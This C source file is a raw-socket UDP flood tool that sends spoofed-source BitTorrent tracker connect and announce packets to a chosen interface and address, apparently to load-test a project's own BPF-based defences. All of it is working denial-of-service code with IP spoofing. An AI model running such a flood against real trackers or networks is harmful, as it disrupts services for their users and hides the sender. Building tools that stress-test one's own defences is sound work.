/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A flood, as an attacker would send it: as fast as one core can, or RATE packets a second, past
 * the network stack, into one interface. Without connection IDs: connect requests and announces
 * with forged ones, from many spoofed sources. With: announces of as many sources as IDs are given,
 * who have proved their address and now ask without end. IPv4 or IPv6, as the addresses are.
 *
 * Usage: flood INTERFACE TO_MAC TO_ADDRESS TO_PORT FROM_ADDRESS SOURCES SECONDS [RATE [ID...]]
 * Prints the packets sent and the seconds they took, as JSON.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "bpf/wire.h"

enum {
    BATCH = 64,              /* packets a system call, at most */
    BATCHES_A_SECOND = 1000, /* at least, of a flood that has a rate: it comes evenly */
    SECONDS_MAX = 60,
    FRAME_MAX = 256,
    IDS_MAX = 64,
    ARGUMENTS = 8,
    FIRST_ID = 9,
};

struct target {
    uint8_t mac[6];
    int family;
    uint8_t address[16], first_source[16]; /* IPv4: the first four */
    uint16_t port;
    uint32_t sources;
    double rate; /* packets a second; 0: as fast as can be */
    unsigned ids_count;
    uint64_t ids[IDS_MAX]; /* of the sources; none: forged ones */
};

static uint64_t random_next(void)
{
    static uint64_t state = 1;
    uint64_t z = state += UINT64_C(0x9e3779b97f4a7c15);

    z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
    z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
    return z ^ z >> 31;
}

/* RFC 1071, over whole words. */
static uint32_t sum_words(uint32_t sum, const void *bytes, unsigned length)
{
    uint16_t word;

    for (unsigned i = 0; i < length; i += sizeof(word)) {
        memcpy(&word, (const uint8_t *)bytes + i, sizeof(word));
        sum += word;
    }
    return sum;
}

static uint16_t checksum(uint32_t sum)
{
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~(sum + (sum >> 16));
}

static unsigned address_size(const struct target *target)
{
    return target->family == AF_INET ? 4 : 16;
}

/* The first source's address, `number` further on. */
static void source_address(const struct target *target, uint32_t number, uint8_t *out)
{
    unsigned size = address_size(target);
    uint32_t last;

    memcpy(out, target->first_source, size);
    memcpy(&last, out + size - sizeof(last), sizeof(last));
    last = htonl(ntohl(last) + number);
    memcpy(out + size - sizeof(last), &last, sizeof(last));
}

/* Returns its length; *sum is that of the addresses. */
static unsigned fill_network(uint8_t *network, const struct target *target, uint32_t source,
                             unsigned length, uint32_t *sum)
{
    struct wire_ipv4 *ipv4 = (void *)network;
    struct wire_ipv6 *ipv6 = (void *)network;

    if (target->family == AF_INET) {
        ipv4->version_ihl = 0x45;
        ipv4->total_length = htons((uint16_t)(sizeof(*ipv4) + length));
        ipv4->ttl = 64;
        ipv4->protocol = WIRE_IPPROTO_UDP;
        source_address(target, source, (uint8_t *)&ipv4->source);
        memcpy(&ipv4->destination, target->address, sizeof(ipv4->destination));
        ipv4->checksum = checksum(sum_words(0, ipv4, sizeof(*ipv4)));
        *sum = sum_words(0, &ipv4->source, 2 * sizeof(ipv4->source));
        return sizeof(*ipv4);
    }
    ipv6->version_class_flow = htonl(UINT32_C(6) << 28);
    ipv6->payload_length = htons((uint16_t)length);
    ipv6->next_header = WIRE_IPPROTO_UDP;
    ipv6->hop_limit = 64;
    source_address(target, source, ipv6->source);
    memcpy(ipv6->destination, target->address, sizeof(ipv6->destination));
    *sum = sum_words(0, ipv6->source, sizeof(ipv6->source) + sizeof(ipv6->destination));
    return sizeof(*ipv6);
}

/* With IDs an announce; else every other one a connect. Returns the length. */
static unsigned fill_payload(struct bep15_announce *payload, const struct target *target,
                             uint32_t source, uint64_t number)
{
    struct bep15_request *header = (void *)payload;
    bool connect = target->ids_count == 0 && number % 2 == 0;

    header->connection_id = connect                 ? __builtin_bswap64(BEP15_MAGIC)
                            : target->ids_count > 0 ? __builtin_bswap64(target->ids[source])
                                                    : random_next();
    header->action = htonl(connect ? BEP15_CONNECT : BEP15_ANNOUNCE);
    header->transaction_id = (uint32_t)number;
    if (connect)
        return sizeof(*header);
    memcpy(payload->info_hash, &number, sizeof(uint8_t));
    payload->port = htons(6881);
    payload->num_want = htonl(50);
    return sizeof(*payload);
}

/* Returns the length of the frame. */
static unsigned fill(uint8_t *frame, const struct target *target, uint64_t number)
{
    uint64_t random = random_next();
    uint32_t source = (uint32_t)random % target->sources, sum;
    struct wire_eth *eth = (void *)frame;
    unsigned network =
        target->family == AF_INET ? sizeof(struct wire_ipv4) : sizeof(struct wire_ipv6);
    struct wire_udp *udp = (void *)(frame + sizeof(*eth) + network);
    unsigned length;

    memset(frame, 0, FRAME_MAX);
    memcpy(eth->destination, target->mac, 6);
    eth->source[0] = 2;
    eth->ethertype = htons(target->family == AF_INET ? WIRE_ETHERTYPE_IPV4 : WIRE_ETHERTYPE_IPV6);
    length = (unsigned)sizeof(*udp) + fill_payload((void *)(udp + 1), target, source, number);
    fill_network(frame + sizeof(*eth), target, source, length, &sum);
    udp->source_port = htons((uint16_t)(random >> 32 | 1));
    udp->destination_port = htons(target->port);
    udp->length = htons((uint16_t)length);
    if (target->family == AF_INET6) /* IPv4 may go without */
        udp->checksum = checksum(
            sum_words(sum + htons(WIRE_IPPROTO_UDP) + htons((uint16_t)length), udp, length));
    return (unsigned)sizeof(*eth) + network + length;
}

static int open_interface(const char *name)
{
    const int yes = 1;
    struct sockaddr_ll address = {.sll_family = AF_PACKET,
                                  .sll_ifindex = (int)if_nametoindex(name)};
    int sender = socket(AF_PACKET, SOCK_RAW, 0);

    if (sender < 0 || setsockopt(sender, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) != 0 ||
        bind(sender, (struct sockaddr *)&address, sizeof(address)) != 0)
        return -1;
    return sender;
}

static double seconds(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec * 1e-9;
}

static unsigned batch_of(const struct target *target)
{
    double batch = target->rate > 0 ? target->rate / BATCHES_A_SECOND : BATCH;

    return batch < 1 ? 1 : batch > BATCH ? BATCH : (unsigned)batch;
}

/* Sleeps until so many packets are due. */
static void keep_pace(const struct target *target, double begin, uint64_t sent)
{
    double due = target->rate > 0 ? begin + (double)sent / target->rate - seconds() : 0;

    if (due > 0)
        nanosleep(&(struct timespec){.tv_sec = (time_t)due,
                                     .tv_nsec = (long)((due - (double)(time_t)due) * 1e9)},
                  NULL);
}

static uint64_t flood(int sender, const struct target *target, double begin, double end)
{
    static _Alignas(8) uint8_t frames[BATCH][FRAME_MAX];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    unsigned batch = batch_of(target);
    uint64_t sent = 0;

    while (seconds() < end) {
        int taken;

        keep_pace(target, begin, sent);
        for (unsigned i = 0; i < batch; i++) {
            parts[i].iov_base = frames[i];
            parts[i].iov_len = fill(frames[i], target, sent + i);
            messages[i].msg_hdr.msg_iov = &parts[i];
            messages[i].msg_hdr.msg_iovlen = 1;
        }
        taken = sendmmsg(sender, messages, batch, 0);
        if (taken > 0)
            sent += (uint64_t)taken;
        else if (errno != ENOBUFS && errno != EAGAIN)
            break;
    }
    return sent;
}

static bool parse(int argc, char **argv, struct target *target, double *duration)
{
    uint8_t *mac = target->mac;

    target->family = strchr(argv[3], ':') ? AF_INET6 : AF_INET;
    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
               &mac[4], &mac[5]) != 6 ||
        inet_pton(target->family, argv[3], target->address) != 1 ||
        inet_pton(target->family, argv[5], target->first_source) != 1)
        return false;
    target->port = (uint16_t)atoi(argv[4]);
    target->sources = (uint32_t)strtoul(argv[6], NULL, 10);
    *duration = strtod(argv[7], NULL);
    target->rate = argc > ARGUMENTS ? strtod(argv[ARGUMENTS], NULL) : 0;
    target->ids_count = argc > FIRST_ID ? (unsigned)(argc - FIRST_ID) : 0;
    if (target->ids_count > IDS_MAX ||
        (target->ids_count > 0 && target->ids_count != target->sources))
        return false;
    for (unsigned i = 0; i < target->ids_count; i++)
        target->ids[i] = strtoull(argv[FIRST_ID + i], NULL, 16);
    return target->sources > 0 && *duration > 0 && *duration <= SECONDS_MAX;
}

int main(int argc, char **argv)
{
    struct target target = {0};
    double duration, begin;
    uint64_t sent;
    int sender;

    if (argc < ARGUMENTS || !parse(argc, argv, &target, &duration)) {
        fprintf(stderr,
                "usage: flood INTERFACE TO_MAC TO_ADDRESS TO_PORT FROM_ADDRESS SOURCES "
                "SECONDS (at most %d) [RATE [ID of each source, in hex...]]\n",
                SECONDS_MAX);
        return 2;
    }
    sender = open_interface(argv[1]);
    if (sender < 0) {
        perror(argv[1]);
        return 1;
    }
    begin = seconds();
    sent = flood(sender, &target, begin, begin + duration);
    printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, seconds() - begin);
    return sent > 0 ? 0 : 1;
}
